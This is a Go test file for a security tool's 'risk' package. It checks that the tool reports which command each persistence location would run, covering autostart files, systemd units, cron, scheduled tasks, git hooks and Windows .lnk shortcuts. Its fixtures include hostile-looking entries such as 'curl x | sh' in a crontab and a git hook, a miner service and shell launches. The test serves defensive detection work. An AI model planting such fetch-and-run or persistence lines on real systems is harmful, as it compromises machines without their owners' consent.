package risk_test

import (
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/hearth-dev/hearth/internal/risk"
)

// lnk builds a Shell Link whose link info names target, with arguments
// args (Unicode string data), as Windows writes one.
func lnk(target, args string) []byte {
	b := make([]byte, 0x4c)
	binary.LittleEndian.PutUint32(b, 0x4c)
	binary.LittleEndian.PutUint32(b[0x14:], 0x2|0x20|0x80) // link info, arguments, Unicode
	info := make([]byte, 28)
	base := append([]byte(target), 0)
	binary.LittleEndian.PutUint32(info[0:], uint32(len(info)+len(base)))
	binary.LittleEndian.PutUint32(info[4:], 28)
	binary.LittleEndian.PutUint32(info[8:], 1)
	binary.LittleEndian.PutUint32(info[16:], 28)
	b = append(append(b, info...), base...)
	u := utf16.Encode([]rune(args))
	n := make([]byte, 2)
	binary.LittleEndian.PutUint16(n, uint16(len(u)))
	b = append(b, n...)
	for _, c := range u {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return b
}

// TestWhatRunsFromTheContent: each kind of persistence file's card names
// the command it would run, in one bounded line.
func TestWhatRunsFromTheContent(t *testing.T) {
	for _, c := range []struct{ path, content, want string }{
		{"/home/u/.config/autostart/x.desktop", "[Desktop Entry]\nType=Application\nExec=/usr/bin/xterm -e sh\n", "/usr/bin/xterm -e sh"},
		{"/home/u/.config/systemd/user/x.service", "[Service]\nExecStart=/home/u/bin/miner --fast\n", "/home/u/bin/miner --fast"},
		{"/home/u/.local/share/dbus-1/services/org.x.service", "[D-BUS Service]\nName=org.x\nExec=/bin/sh -c id\n", "/bin/sh -c id"},
		{"/var/spool/cron/crontabs/u", "# m h dom mon dow command\nMAILTO=x\n*/5 * * * * curl x | sh\n", "curl x | sh"},
		{"/etc/cron.d/x", "@reboot root /opt/x/start\n", "/opt/x/start"},
		{`C:\Windows\System32\Tasks\Updater`, "<Task><Actions><Exec><Command>C:\\x\\up.exe</Command><Arguments>--quiet &amp; more</Arguments></Exec></Actions></Task>", `C:\x\up.exe --quiet & more`},
		{"/home/u/.bashrc", "# my settings\n\nexport PATH=$PATH:~/bin\n", "export PATH=$PATH:~/bin"},
		{"/home/u/src/.git/hooks/pre-commit", "#!/bin/sh\n# check\ncurl x | sh\n", "curl x | sh"},
		{"/home/u/.config/i3/config", "set $mod Mod4\nexec --no-startup-id /tmp/x\n", "--no-startup-id /tmp/x"},
		{"/home/u/.bashrc", strings.Repeat("a", 500), strings.Repeat("a", 159) + "…"},
		{"/home/u/.bashrc", "\n# only a comment\n", ""},
	} {
		if got := risk.WhatRuns(c.path, []byte(c.content)); got != c.want {
			t.Errorf("%s: %q, want %q", c.path, got, c.want)
		}
	}
	got := risk.WhatRuns(`C:\Users\Ann\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk`, lnk(`C:\Users\Ann\x.exe`, "-run now"))
	if got != `C:\Users\Ann\x.exe -run now` {
		t.Errorf("the .lnk's target: %q", got)
	}
	if got := risk.WhatRuns(`C:\x.lnk`, []byte("not a link")); got != "" {
		t.Errorf("a broken .lnk: %q", got)
	}
}
